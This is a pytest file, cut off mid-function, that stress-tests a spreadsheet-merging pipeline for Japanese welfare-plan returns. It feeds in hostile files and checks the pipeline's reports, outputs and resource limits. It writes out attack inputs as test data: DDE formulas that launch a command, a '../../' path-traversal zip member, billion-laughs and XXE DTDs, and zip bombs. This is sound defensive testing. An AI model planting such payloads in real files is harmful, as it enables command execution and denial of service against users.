"""Hostile inputs at the level of the whole nightly run.

Each case puts ONE hostile file into an inbox that holds the 12 good demo returns, runs
`run_merge` in a separate process, and checks what a member of staff would see the next morning:
the hostile file's status and exact issue codes in run-report.json, the other returns accepted,
69 evaluations, and a master that opens. The merge process is measured: wall and CPU time and peak
resident memory (ru_maxrss from wait4, which also covers the reaped sandbox worker where the
workbooks are parsed: the peak of the largest single process, not their sum).

Cost: a fresh `python -m pipeline merge` spends ~1.5 s importing pandas/pandera before any work,
so a small fork server imports the pipeline once and forks one child per case; each child is a
whole merge in its own process (own memory, own sandbox worker) and is reaped with wait4.

The cell-level cases are realistic: a copy of the 指導室 return (one row, row 4; F/G/H are the
inputs) with the hostile bits written into its sheet XML, so it is otherwise a valid template.
The copy is dated one hour after the original (a department re-sending): when its row is valid it
replaces the original's (the original becomes `superseded`), when its row is excluded the
original's value stays (`row-kept-older`). Either way the master holds 69 evaluations.

Set HOSTILE_RUN_TABLE=/path/file.jsonl to append one JSON line per case (case, wall_s, cpu_s, rss_mib,
status, codes): the README's "Hostile inputs" table is made from it.
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import random
import re
import shutil
import subprocess
import sys
import textwrap
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from hostile import (
    FILEPASS_RC4,
    LAUGHS,
    OWNER_FILE,
    SHEET1,
    SPACES_BLOCK,
    XXE,
    ZIP_BOMB_BLOCK,
    Sheet,
    add_external_link,
    add_merge,
    add_vba_project,
    append_rows,
    biff8_stream,
    cfb,
    compound_file,
    corrupt_crc,
    edit_member,
    formatted_empty_rows,
    hide_row,
    inline,
    ods,
    ods_manifest,
    ods_of,
    ods_with_content,
    patch_sizes,
    rewrite,
    saved_by_excel,
    set_cell,
    set_sheet_state,
    sheets_of,
    streamed_sheet,
    with_dtd,
    xls_of,
)

from pipeline import atomic, master
from pipeline.catalog import load_catalog
from pipeline.cli import cli
from pipeline.runner import run_merge
from pipeline.settings import Settings

ROOT = Path(__file__).resolve().parent.parent
SOURCE = "R6_地域福祉計画評価_指導室.xlsx"  # one row (row 4): 事業8, rating A
CPU_BOUND_S = 10.0
SPAWNED_IMPORT_S = 5.0  # a merge started fresh imports pandas, pandera and openpyxl first
# The two warnings the published R6 answers give by the checks that read the text (docs/new-year.md).
TEXT_WARNINGS = {"R6_地域福祉計画評価_地域安全課.xlsx": ["reason-says-not-done"],
                 "R6_地域福祉計画評価_地域福祉課.xlsx": ["reason-says-not-done"]}
RSS_BOUND = 2**30

# One merge of a request, with the "vanish"/"unreadable" faults patched in; shared by the fork
# server (a child per request) and, where there is no fork, a fresh process per request.
ONE_MERGE = textwrap.dedent(
    r"""
    import json, os, sys, threading, time, pathlib
    import pandas, pandera, openpyxl, xlsxwriter, filelock  # noqa: F401  (a merge imports them)
    from pipeline import ingest, master, runner, validate  # noqa: F401
    from pipeline.reader import annotate  # noqa: F401
    from pipeline.settings import Settings
    from plan_schemas import evaluation  # noqa: F401

    def patch(mode, victim):
        real_walk = ingest.walk
        if mode == "vanish":  # listed, then deleted before it is read
            def walk(root, exclude=()):
                found = real_walk(root, exclude)
                pathlib.Path(victim).unlink()
                return found
            ingest.walk = walk
        elif mode == "unreadable":  # listed, then refused on open (as chmod 000 would, were we not root)
            real_open = os.open

            def refusing_open(path, flags, *args, **kwargs):
                if os.fspath(path) == victim:
                    raise PermissionError(13, "Permission denied", os.fspath(path))
                return real_open(path, flags, *args, **kwargs)
            os.open = refusing_open

    def one(req):
        try:
            if req.get("mode"):
                patch(req["mode"], req["victim"])
            run = runner.run_merge(Settings(inbox=pathlib.Path(req["inbox"]), outbox=pathlib.Path(req["outbox"])))
            result = {"exit_code": run.exit_code, "notices": run.notices}
        except BaseException as exc:
            result = {"error": f"{type(exc).__name__}: {exc}"}
        try:  # measured by the process itself where no parent can wait4 for it (its readers included)
            import resource
            me, kids = resource.getrusage(resource.RUSAGE_SELF), resource.getrusage(resource.RUSAGE_CHILDREN)
            result["self_usage"] = {"cpu_s": me.ru_utime + me.ru_stime + kids.ru_utime + kids.ru_stime,
                                    "maxrss_kib": max(me.ru_maxrss, kids.ru_maxrss)}
        except ImportError:  # Windows
            pass
        pathlib.Path(req["result"]).write_text(json.dumps(result, ensure_ascii=False), encoding="utf-8")
    """
)

# The fork server: imports what a merge imports, then per request forks a child that runs one
# merge and reports through a result file; the parent reaps it with wait4 for its rusage.
SERVER = ONE_MERGE + textwrap.dedent(
    r"""
    import signal

    reply = os.fdopen(os.dup(1), "w")
    os.dup2(2, 1)  # nothing a child prints can garble the replies

    for line in sys.stdin:
        req = json.loads(line)
        t0 = time.perf_counter()
        pid = os.fork()
        if pid == 0:
            one(req)
            os._exit(0)
        timer = threading.Timer(req["timeout"], os.kill, (pid, signal.SIGKILL))
        timer.start()
        _, status, usage = os.wait4(pid, 0)
        wall = time.perf_counter() - t0
        timer.cancel()
        timer.join()
        cpu = usage.ru_utime + usage.ru_stime  # the merge and its reaped reader worker
        reply.write(json.dumps({"wall_s": wall, "cpu_s": cpu, "maxrss_kib": usage.ru_maxrss, "status": status}) + "\n")
        reply.flush()
    """
)
FORKS = hasattr(os, "fork") and hasattr(os, "wait4")


class Merger:
    """One measured merge per call, each in a process of its own: forked from a server that has
    imported the pipeline once where the platform forks; else (Windows, or CI's simulation of it)
    started fresh, the way a scheduled merge starts, and measured by itself (CPU and peak memory
    where the platform tells them, wall time always)."""

    def __init__(self) -> None:
        self.env = {**os.environ, "PYTHONPATH": str(ROOT)}
        self.proc = None
        if FORKS:
            self.proc = subprocess.Popen(
                [sys.executable, "-c", SERVER], stdin=subprocess.PIPE, stdout=subprocess.PIPE, cwd=ROOT,
                env=self.env, text=True,
            )  # fmt: skip

    def merge(self, inbox: Path, outbox: Path, mode: str = "", victim: Path | None = None) -> dict:
        result = outbox.parent / "merge-result.json"
        req = {"inbox": str(inbox), "outbox": str(outbox), "result": str(result), "timeout": 60,
               "mode": mode, "victim": str(victim or "")}  # fmt: skip
        if self.proc is None:
            return self._spawned(req, result)
        assert self.proc.stdin is not None and self.proc.stdout is not None
        self.proc.stdin.write(json.dumps(req) + "\n")
        self.proc.stdin.flush()
        line = self.proc.stdout.readline()
        assert line, "the fork server died"
        measured = json.loads(line)
        assert measured["status"] == 0, f"the merge process died: wait status {measured['status']}"
        return {**measured, **json.loads(result.read_text(encoding="utf-8"))}

    def _spawned(self, req: dict, result: Path) -> dict:
        t0 = time.perf_counter()
        done = subprocess.run([sys.executable, "-c", ONE_MERGE + "\none(json.loads(sys.argv[1]))\n", json.dumps(req)],
                              cwd=ROOT, env=self.env, capture_output=True, timeout=300)
        wall = time.perf_counter() - t0
        assert done.returncode == 0, f"the merge process died: exit code {done.returncode}\n{done.stderr[-2000:]!r}"
        got = json.loads(result.read_text(encoding="utf-8"))
        usage = got.pop("self_usage", {"cpu_s": None, "maxrss_kib": None})
        return {"wall_s": wall, **usage, **got}

    def close(self) -> None:
        if self.proc is not None:
            assert self.proc.stdin is not None
            self.proc.stdin.close()
            self.proc.wait(timeout=30)


@pytest.fixture(scope="module")
def merger():
    m = Merger()
    yield m
    m.close()


# --- the cases ----------------------------------------------------------------------------------


@dataclass
class Case:
    id: str
    name: str  # file name in the inbox
    build: Callable[[bytes], bytes]  # from the 指導室 return's bytes
    status: str  # status of the hostile file ("" = not listed at all)
    codes: list[str]  # its issue codes, sorted (merge notes included)
    replaces_row: bool = False  # its row is valid and newer: the original 指導室 return is superseded
    mode: str = ""  # "vanish" / "unreadable": the file goes away during the run
    check: Callable[[dict, Path], None] | None = None  # extra checks (report, outbox)
    marks: list = field(default_factory=list)


def g4(inner: str, t: str | None = None) -> Callable[[bytes], bytes]:
    """The rating cell G4 replaced (the return is otherwise unchanged)."""
    return lambda src: edit_member(src, SHEET1, lambda x: set_cell(x, "G4", inner, t))


def text_cell(ref: str, text: str) -> Callable[[str], str]:
    return lambda x: set_cell(x, ref, inline(text), "inlineStr")


def sheet_edit(*edits: Callable[[str], str]) -> Callable[[bytes], bytes]:
    def build(src: bytes) -> bytes:
        for e in edits:
            src = edit_member(src, SHEET1, e)
        return src

    return build


def master_texts(outbox: Path) -> set[str]:
    wb = openpyxl.load_workbook(outbox / "地域福祉計画_評価集約_R6.xlsx", read_only=True)
    return {v for row in wb["評価一覧"].iter_rows(values_only=True) for v in row if isinstance(v, str)}


def check_cleaned(report: dict, outbox: Path) -> None:
    texts = master_texts(outbox)
    assert any(t.startswith("小中学校において\n発達段階") for t in texts), "the _x000D_ became a line feed"
    assert any("制御文字入り" in t and "\x01" not in t and "_x0001_" not in t for t in texts)


def check_values_read(report: dict, outbox: Path) -> None:
    hostile = next(
        f for f in report["files"] if f["status"] == "accepted" and f["name"].startswith("hostile")
    )
    assert hostile["rows"] == 1


def ods_g4(value: str, formula: str) -> Callable[[bytes], bytes]:
    """The return as .ods, its rating cell G4 holding `formula` (cached `value`)."""

    def edit(sheets: list[Sheet]) -> None:
        sheets[0].cells[(4, 7)] = value
        sheets[0].formulas[(4, 7)] = formula

    return lambda src: ods_of(src, edit)


def xls_lying_dimensions(src: bytes, last_row: int) -> bytes:
    """The return as .xls with one more cell at IV<last_row>, its DIMENSIONS record unchanged (a lie)."""
    sheets = sheets_of(src)
    honest = biff8_stream(sheets)
    sheets[0].cells[(last_row, 256)] = "遠いセル"
    stream = bytearray(biff8_stream(sheets))
    pos = stream.index(b"\x00\x02\x0e\x00")  # the first sheet's DIMENSIONS
    stream[pos + 4 : pos + 18] = honest[pos + 4 : pos + 18]
    return compound_file({"Workbook": bytes(stream).ljust(4096, b"\0")})


LONG = "長" * 40_000
REF_ERR = "<f>VLOOKUP(B4,評価!A:B,2,FALSE)</f><v>#N/A</v>"

CASES = [
    # --- not a workbook at all ---
    Case("zero-byte", "hostile.xlsx", lambda src: b"", "rejected", ["file-empty"]),
    Case("text-renamed", "hostile.xlsx", lambda src: "評価は A です。\n".encode(), "rejected",
         ["file-not-workbook"]),
    Case("csv-renamed", "hostile.xlsx",
         lambda src: "施策No.,事業No.,担当課,事業評価\n(3)①,8,指導室,A\n".encode("cp932"), "rejected",
         ["file-not-workbook"]),
    # --- a broken zip ---
    Case("truncated-zip", "hostile.xlsx", lambda src: src[: len(src) // 2], "rejected", ["file-corrupt"]),
    Case("corrupt-crc", "hostile.xlsx", lambda src: corrupt_crc(src, SHEET1), "rejected", ["file-corrupt"]),
    Case("lying-sizes", "hostile.xlsx", lambda src: patch_sizes(src, SHEET1, 4000), "rejected",
         ["file-corrupt"]),
    Case("zip-bomb-ratio", "hostile.xlsx", lambda src: streamed_sheet([ZIP_BOMB_BLOCK] * 10, base=src),
         "rejected", ["file-zip-bomb"]),
    Case("whitespace-bomb", "hostile.xlsx",
         lambda src: streamed_sheet([SPACES_BLOCK] * 256, level=1, base=src), "rejected", ["file-zip-bomb"],
         marks=[pytest.mark.slow]),
    Case("thousands-of-members", "hostile.xlsx",
         lambda src: rewrite(src, add={f"xl/media/image{i}.png": b"\x89PNG" for i in range(3000)}),
         "rejected", ["file-too-many-members"]),
    Case("dotdot-member-name", "hostile.xlsx", lambda src: rewrite(src, add={"../../evil.txt": b"x"}),
         "rejected", ["file-bad-member-name"]),
    # --- unsafe XML (never expanded: the gate refuses any DTD) ---
    *[
        Case(f"{attack}-{where}", "hostile.xlsx", (lambda m, p: lambda src: with_dtd(src, m, p))(member, prolog),
             "rejected", ["file-unsafe-xml"])
        for attack, prolog in (("billion-laughs", LAUGHS), ("xxe", XXE))
        for where, member in (("sheet", SHEET1), ("sharedStrings", "xl/sharedStrings.xml"),
                              ("workbook", "xl/workbook.xml"))
    ],
    # --- other containers ---
    Case("encrypted", "hostile.xlsx",
         lambda src: cfb({"EncryptionInfo": b"\x04\x00\x04\x00\x40\x00\x00\x00", "EncryptedPackage": src}),
         "rejected", ["file-encrypted"]),
    # --- .ods and .xls: read for their values, through the same gate and worker ---
    Case("ods-return", "hostile.ods", ods_of, "accepted", ["file-legacy-format"], replaces_row=True,
         check=check_values_read),
    Case("ods-named-xlsx", "hostile.xlsx", ods_of, "accepted", ["file-legacy-format"], replaces_row=True),
    Case("ods-repeated-rows-bomb", "hostile.ods",
         lambda src: ods_with_content(ods_of(src), lambda x: x.replace(
             '<table:table-row table:style-name="ro1" table:number-rows-repeated=',
             '<table:table-row table:number-rows-repeated="1048576"><table:table-cell office:value-type="string">'
             '<text:p>A</text:p></table:table-cell></table:table-row><table:table-row table:style-name="ro1" '
             'table:number-rows-repeated=', 1)),
         "rejected", ["sheet-too-large"]),
    Case("ods-zip-bomb", "hostile.ods",
         lambda src: ods_with_content(ods_of(src), lambda x: x.replace(
             "</office:spreadsheet>", '<table:table table:name="爆弾">' + "<table:table-row><table:table-cell/>"
             "</table:table-row>" * 1_000_000 + "</table:table></office:spreadsheet>", 1), level=9),
         "rejected", ["file-zip-bomb"]),
    Case("ods-billion-laughs", "hostile.ods",
         lambda src: ods_with_content(ods_of(src), lambda x: LAUGHS + x.split("?>", 1)[1].replace(
             "<office:body>", "<office:body>&lol9;", 1)),
         "rejected", ["file-unsafe-xml"]),
    Case("ods-dde-formula", "hostile.ods", ods_g4("A", 'of:=DDE("cmd";"/C calc";"A0")'), "rejected",
         ["cell-dde", "file-legacy-format", "row-kept-older"]),
    Case("ods-formula-libreoffice", "hostile.ods", ods_g4("A", 'of:=IF([.B4]="8";"A";"B")'), "accepted",
         ["cell-formula", "cell-uncalculated", "file-legacy-format"], replaces_row=True),
    Case("ods-encrypted", "hostile.ods",
         lambda src: ods(b"<x/>", members={"META-INF/manifest.xml": ods_manifest(encrypted=True)}),
         "rejected", ["file-encrypted"]),
    Case("xls-return", "hostile.xls", xls_of, "accepted", ["file-legacy-format"], replaces_row=True,
         check=check_values_read),
    Case("xls-excel95", "hostile.xls", lambda src: xls_of(src, version=0x0500), "rejected", ["file-legacy-xls"]),
    Case("xls-encrypted", "hostile.xls", lambda src: xls_of(src, globals_extra=FILEPASS_RC4), "rejected",
         ["file-encrypted"]),
    Case("xls-cells-A1-IV300", "hostile.xls", lambda src: xls_lying_dimensions(src, 300), "rejected",
         ["file-legacy-format", "sheet-too-large"]),
    Case("xls-cells-A1-IV65536", "hostile.xls", lambda src: xls_lying_dimensions(src, 65536), "rejected",
         ["file-legacy-format", "reader-crashed"]),
    Case("xlsb", "hostile.xlsb",
         lambda src: rewrite(src, {"xl/workbook.xml": None}, add={"xl/workbook.bin": b"\x83\x01\x00"}),
         "rejected", ["file-xlsb"]),
    Case("xlsm-vba", "hostile.xlsm", add_vba_project, "accepted", ["file-macros"], replaces_row=True,
         check=check_values_read),
    # --- sheet extent ---
    Case("dimension-A1:XFD1048576", "hostile.xlsx",
         sheet_edit(lambda x: x.replace('<dimension ref="A1:H5" />', '<dimension ref="A1:XFD1048576"/>')),
         "accepted", [], replaces_row=True),
    Case("two-cells-far-apart", "hostile.xlsx",
         lambda src: append_rows(src, '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
         "rejected", ["sheet-too-large"]),
    Case("million-formatted-rows", "hostile.xlsx",
         lambda src: streamed_sheet(formatted_empty_rows(), level=1, base=src), "rejected",
         ["sheet-too-large"], marks=[pytest.mark.slow]),
    # --- cell level, in the data row ---
    Case("merged-cells", "hostile.xlsx", lambda src: add_merge(src, "F4:F5"), "accepted", ["cell-merged"],
         replaces_row=True),
    Case("hidden-sheet", "hostile.xlsx", lambda src: set_sheet_state(src, "記入要領", "hidden"), "accepted",
         ["content-hidden"], replaces_row=True),
    Case("hidden-row", "hostile.xlsx", lambda src: hide_row(src, 4), "accepted", ["row-hidden"],
         replaces_row=True),
    Case("formula-cached-by-excel", "hostile.xlsx",
         lambda src: saved_by_excel(g4('<f>IF(B4="8","A","B")</f><v>A</v>', "str")(src)), "accepted",
         ["cell-formula"], replaces_row=True),
    Case("formula-no-cache", "hostile.xlsx", g4('<f>IF(B4="8","A","B")</f>'), "rejected",
         ["cell-formula-no-cache", "row-kept-older"]),
    Case("formula-cached-by-other-tool", "hostile.xlsx", g4('<f>IF(B4="8","A","B")</f><v>A</v>', "str"),
         "accepted", ["cell-formula", "cell-uncalculated"], replaces_row=True),
    Case("error-REF", "hostile.xlsx", g4("<v>#REF!</v>", "e"), "rejected",
         ["cell-error-value", "row-kept-older"]),
    Case("error-NA", "hostile.xlsx", lambda src: saved_by_excel(g4(REF_ERR, "e")(src)), "rejected",
         ["cell-error-value", "row-kept-older"]),
    Case("text-over-32767", "hostile.xlsx", sheet_edit(text_cell("F4", LONG)), "rejected",
         ["row-kept-older", "text-too-long"]),
    Case("control-chars", "hostile.xlsx",
         sheet_edit(text_cell("F4", "小中学校において_x000D_\n発達段階に応じた保健福祉教育を実施した。"),
                    text_cell("H4", "制御文字入り_x0001_の展望。")),
         "accepted", ["cell-control-chars", "line-break-pasted"], replaces_row=True, check=check_cleaned),
    Case("external-link", "hostile.xlsx",
         lambda src: saved_by_excel(add_external_link(g4("<f>[1]評価!G4</f><v>A</v>", "str")(src))), "accepted",
         ["cell-formula", "external-links"], replaces_row=True),
    Case("dde-formula", "hostile.xlsx", g4("<f>cmd|' /C calc'!A0</f><v>A</v>", "str"), "rejected",
         ["cell-dde", "row-kept-older"]),
    # --- around the files ---
    Case("excel-owner-file", "~$R6_地域福祉計画評価_指導室.xlsx", lambda src: OWNER_FILE, "ignored",
         ["ignored-lock-file"]),
    Case("vanishes-during-run", "hostile.xlsx", lambda src: src, "rejected", ["file-vanished"], mode="vanish"),
    Case("unreadable-during-run", "hostile.xlsx", lambda src: src, "rejected", ["file-vanished"],
         mode="unreadable"),
]  # fmt: skip


@pytest.mark.parametrize("case", [pytest.param(c, id=c.id, marks=c.marks) for c in CASES])
def test_one_hostile_file_among_the_good_returns(
    case: Case, merger: Merger, inbox: Path, outbox: Path
) -> None:
    src = (inbox / SOURCE).read_bytes()
    hostile = inbox / case.name
    hostile.write_bytes(case.build(src))
    newer = (inbox / SOURCE).stat().st_mtime + 3600  # sent again an hour later
    os.utime(hostile, (newer, newer))

    got = merger.merge(inbox, outbox, case.mode, hostile)
    assert "error" not in got, got.get("error")
    _record(case, got)

    report = json.loads((outbox / "run-report.json").read_text(encoding="utf-8"))
    files = {f["name"]: f for f in report["files"]}
    mine = files.pop(case.name, None)
    if case.status:
        assert mine is not None, f"{case.name} not in the run report"
        assert (mine["status"], sorted(i["code"] for i in mine["issues"])) == (case.status, case.codes)
        assert report["exit_code"] == got["exit_code"] == (1 if mine["status"] == "rejected" else 0)
        if mine["status"] == "ignored":  # listed, never read, with the reason
            assert mine["reason"]
    else:
        assert mine is None and got["exit_code"] == 0  # not listed at all
    others = {n: f["status"] for n, f in files.items()}
    expected = {n: "accepted" for n in others}
    if case.replaces_row:
        expected[SOURCE] = "superseded"
    assert others == expected and len(others) == 12
    assert all([i["code"] for i in f["issues"]] == TEXT_WARNINGS.get(n, []) or f["status"] == "superseded"
               for n, f in files.items())
    assert report["rows"] == 69
    master_path = outbox / master.master_name(load_catalog("R6"))
    assert Path(report["master"]) == master_path
    with zipfile.ZipFile(master_path) as z:
        assert z.testzip() is None
    wb = openpyxl.load_workbook(master_path, read_only=True)
    assert sum(1 for r in wb["評価一覧"].iter_rows(min_row=2, values_only=True) if r[0] is not None) == 69
    if case.check:
        case.check(report, outbox)
    # CPU time, not wall time: on a busy machine the wall clock measures the neighbours too. A
    # process started fresh (no fork) also spends ~1.5 s of CPU importing pandas before any work.
    if got["cpu_s"] is not None:  # Windows does not report them to the test (no resource module)
        bound = CPU_BOUND_S if FORKS else CPU_BOUND_S + SPAWNED_IMPORT_S
        assert got["cpu_s"] < bound, f"merge used {got['cpu_s']:.1f} s of CPU"
        assert got["maxrss_kib"] * 1024 < RSS_BOUND, f"merge peaked at {got['maxrss_kib'] / 1024:.0f} MiB"


def _record(case: Case, got: dict) -> None:
    target = os.environ.get("HOSTILE_RUN_TABLE")
    if target:
        with open(target, "a", encoding="utf-8") as fh:
            line = {
                "case": case.id,
                "wall_s": round(got["wall_s"], 2),
                "cpu_s": round(got["cpu_s"], 2) if got["cpu_s"] is not None else None,
                "rss_mib": round(got["maxrss_kib"] / 1024) if got["maxrss_kib"] is not None else None,
            }
            fh.write(json.dumps(line, ensure_ascii=False) + "\n")


def test_baseline_twelve_good_returns(merger: Merger, inbox: Path, outbox: Path) -> None:
    got = merger.merge(inbox, outbox)
    _record(Case("baseline (12 good returns)", "", lambda s: s, "", []), got)
    assert got["exit_code"] == 0 and "error" not in got
    assert json.loads((outbox / "run-report.json").read_text(encoding="utf-8"))["rows"] == 69


# --- faults of our own: killed, full disk, two at once, the master open in Excel ---------------

MASTER = "地域福祉計画_評価集約_R6.xlsx"
SUMMARY = "地域福祉計画_評価集計_R6.xlsx"


def big_inbox(folder: Path, demo_returns: Path, copies: int) -> Path:
    """`copies` × the 12 demo returns under different names (69 × copies rows, 69 distinct)."""
    folder.mkdir()
    for i in range(copies):
        for f in sorted(demo_returns.glob("*.xlsx")):
            shutil.copy(f, folder / f"{f.stem}_写{i:03d}.xlsx")
    return folder


def merge_command(inbox: Path, outbox: Path) -> list[str]:
    return [sys.executable, "-m", "pipeline", "merge", "--inbox", str(inbox), "--outbox", str(outbox)]


def child_env() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": str(ROOT)}


def distinct_evaluations(path: Path) -> int:
    """Opens the master with openpyxl and counts its distinct (事業No., 担当課)."""
    ws = openpyxl.load_workbook(path, read_only=True)["評価一覧"]
    rows = list(ws.iter_rows(values_only=True))
    project, department = rows[0].index("事業No."), rows[0].index("担当課")
    return len({(r[project], r[department]) for r in rows[1:] if r[project] is not None})


def temporaries(outbox: Path) -> list[Path]:
    return sorted(outbox.rglob(".~tmp-*"))


def own_temporary(outbox: Path, stem: str, pid: int) -> Path | None:
    """The `.~tmp-<stem>-<pid>-…` file process `pid` is writing in `outbox`, if any."""
    prefix = f".~tmp-{stem}-{pid}-"
    with os.scandir(outbox) as it:
        return next((Path(e.path) for e in it if e.name.startswith(prefix)), None)


def wait_for_progress(proc: subprocess.Popen, outbox: Path, stem: str, at_least: int) -> bool:
    """Poll until `proc` is writing `stem` and its temporary holds `at_least` bytes: True then, False
    if the process ended first. Bounded by the process, not by the clock (the sleep only yields)."""
    while proc.poll() is None:
        tmp = own_temporary(outbox, stem, proc.pid)
        if tmp is not None:
            with contextlib.suppress(FileNotFoundError):  # renamed away between listing and stat
                if tmp.stat().st_size >= at_least:
                    return True
        time.sleep(0.001)
    return False


@pytest.mark.slow
def test_kill_9_while_the_outputs_are_written(tmp_path: Path, demo_returns: Path) -> None:
    """SIGKILL `python -m pipeline merge` (~2,000 rows) at 20 points of its output phase, chosen from
    its observed progress: when the temporary of the master has reached a chosen share of the
    master's size (from nothing written yet to 90 %), or when the summary's or the run report's
    temporary exists. A point the run passed before it could be killed is tried again (at most 40
    runs), so a busy machine makes the test slower, never wrong."""
    inbox = big_inbox(tmp_path / "inbox", demo_returns, copies=29)  # 2,001 rows
    outbox = tmp_path / "outbox"
    cwd = tmp_path  # no pipeline.toml there: defaults plus the options
    assert (
        subprocess.run(merge_command(inbox, outbox), cwd=cwd, env=child_env(), capture_output=True).returncode
        == 0
    )
    master_path = outbox / MASTER
    assert distinct_evaluations(master_path) == 69
    size = master_path.stat().st_size
    rng = random.Random(20250530)
    points = [(Path(MASTER).stem, int(size * rng.uniform(0.0, 0.9))) for _ in range(14)]
    points += [(Path(SUMMARY).stem, 0)] * 3 + [("run-report", 0)] * 3
    landed: list[tuple[str, int]] = []
    previous_pids: list[int] = []
    for _attempt in range(40):
        if not points:
            break
        stem, at_least = points[0]
        # a merge with nothing new keeps the last workbooks (runner.run_fingerprint): forget the
        # last run, so that every merge writes its outputs again
        (outbox / ".cache" / "last-run.json").unlink(missing_ok=True)
        proc = subprocess.Popen(merge_command(inbox, outbox), cwd=cwd, env=child_env(),
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
        reached = wait_for_progress(proc, outbox, stem, at_least)
        if reached:
            # by now this run has swept what the previous killed runs left
            assert not [p for p in temporaries(outbox) if any(f"-{pid}-" in p.name for pid in previous_pids)]
        proc.kill()
        proc.wait()
        left = [p for p in temporaries(outbox) if f"-{proc.pid}-" in p.name]
        if reached and left:
            landed.append(points.pop(0))
        previous_pids.append(proc.pid)
        # the previous master (or a complete new one) opens and holds the 69 evaluations
        assert distinct_evaluations(master_path) == 69
        json.loads((outbox / "run-report.json").read_text(encoding="utf-8"))  # whole, never half
    assert len(landed) == 20, f"only {len(landed)} of 20 kill points were reached in 40 runs: {points}"
    # the lock the killed runs held does not block the next merge, which sweeps their temporaries
    done = subprocess.run(
        merge_command(inbox, outbox), cwd=cwd, env=child_env(), capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert temporaries(outbox) == []
    assert distinct_evaluations(master_path) == 69


def lock_held_by(lock: Path, pid: int) -> bool:
    """Whether `pid` holds an flock on `lock` (from /proc/locks; Linux)."""
    try:
        inode = lock.stat().st_ino
    except FileNotFoundError:
        return False
    for line in Path("/proc/locks").read_text().splitlines():
        parts = line.split()
        if "FLOCK" in parts and str(pid) in parts and any(p.endswith(f":{inode}") for p in parts):
            return True
    return False


# The first merge, held inside its lock: it says "locked" when it sweeps the temporaries (done
# under the lock) and waits for a line on stdin before it goes on. No timing is involved.
HELD_MERGE = textwrap.dedent(
    """
    import sys
    from pipeline import atomic
    from pipeline.cli import main

    real = atomic.sweep_temporaries
    def sweep(folder):
        if not getattr(sweep, "held", False):
            sweep.held = True
            # on the process's own stdout: the CLI captures what is printed through sys.stdout
            # during a run (a library's chatter), and this line is for the test
            sys.__stdout__.write("locked\\n")
            sys.__stdout__.flush()
            sys.stdin.readline()
        return real(folder)
    atomic.sweep_temporaries = sweep
    sys.argv = ["pipeline", *sys.argv[1:]]
    main()
    """
)


@pytest.mark.slow
def test_a_second_merge_exits_3_at_once_while_the_first_runs(tmp_path: Path, demo_returns: Path) -> None:
    inbox = big_inbox(tmp_path / "inbox", demo_returns, copies=2)
    outbox = tmp_path / "outbox"
    first = subprocess.Popen([sys.executable, "-c", HELD_MERGE, *merge_command(inbox, outbox)[3:]],
                             cwd=tmp_path, env=child_env(), stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                             stderr=subprocess.PIPE, text=True)  # fmt: skip
    assert first.stdin is not None and first.stdout is not None
    try:
        for line in first.stdout:  # (until EOF: the merge ended without taking the lock)
            if line.strip() == "locked":
                break
        else:
            pytest.fail("the first merge never took the lock")
        if Path("/proc/locks").exists():
            assert lock_held_by(outbox / ".merge.lock", first.pid)
        second = subprocess.run(merge_command(inbox, outbox), cwd=tmp_path, env=child_env(),
                                capture_output=True, text=True)  # fmt: skip
        assert first.poll() is None  # still held: it waits for us
        first.stdin.write("go\n")
        first.stdin.flush()
    finally:
        _out, err = first.communicate()
    assert second.returncode == 3
    assert "別の集約処理が実行中です" in second.stderr + second.stdout
    assert first.returncode == 0, err
    assert distinct_evaluations(outbox / MASTER) == 69


def snapshot(folder: Path) -> dict[str, bytes]:
    """The outputs (not the log and last-run.json: they record every run, the failed ones too)."""
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*"))
            if p.is_file() and "logs" not in p.relative_to(folder).parts and p.name != "last-run.json"}


def invoke(*args: str):
    return CliRunner().invoke(cli, list(args), catch_exceptions=False)


def enospc() -> OSError:
    return OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.parametrize("where", ["summary", "report", "feedback"])
def test_a_full_disk_while_writing_leaves_every_previous_output(
    where: str, inbox: Path, outbox: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    # one return with an error, so that a feedback copy is written too
    spoilt = inbox / SOURCE
    wb = openpyxl.load_workbook(spoilt)
    wb["記入シート"]["G4"] = "E"
    wb.save(spoilt)
    monkeypatch.chdir(tmp_path)
    assert invoke("merge", "--inbox", str(inbox), "--outbox", str(outbox)).exit_code == 1
    assert (outbox / "feedback" / f"指導室_{SOURCE}").exists()
    later = spoilt.stat().st_mtime + 3600
    wb["記入シート"]["G4"] = "良"  # re-sent an hour later, still wrong: tonight's outputs would differ
    wb.save(spoilt)
    os.utime(spoilt, (later, later))
    before = snapshot(outbox)

    if where == "summary":

        def write_summary(path, *args, **kwargs):  # half a zip, then the disk is full
            Path(path).write_bytes(b"PK\x03\x04 half")
            raise enospc()

        monkeypatch.setattr(master, "write_summary", write_summary)
    else:
        marker = "run-report" if where == "report" else Path(SOURCE).stem
        real = Path.write_bytes

        def write_bytes(self: Path, data: bytes) -> int:
            if self.name.startswith(".~tmp-") and marker in self.name:
                real(self, data[: len(data) // 2])
                raise enospc()
            return real(self, data)

        monkeypatch.setattr(Path, "write_bytes", write_bytes)
    result = invoke("merge", "--inbox", str(inbox), "--outbox", str(outbox))
    assert result.exit_code == 3
    assert "エラー: " in result.output and "No space left on device" in result.output
    expected = "差し戻し用のファイル" if where == "feedback" else "前回の出力はそのまま残っています"
    assert expected in result.output
    assert snapshot(outbox) == before  # byte for byte, and no temporary left


def test_master_open_in_excel_is_written_under_a_timestamped_name(
    inbox: Path, outbox: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.chdir(tmp_path)
    assert invoke("merge", "--inbox", str(inbox), "--outbox", str(outbox)).exit_code == 0
    target = outbox / MASTER
    before = target.read_bytes()
    resent = inbox / SOURCE  # re-sent: without anything new, the merge keeps the last workbooks
    os.utime(resent, (resent.stat().st_mtime + 60,) * 2)
    real = os.replace

    def replace(src, dst) -> None:  # Windows refuses to replace a file Excel has open
        if Path(dst) == target:
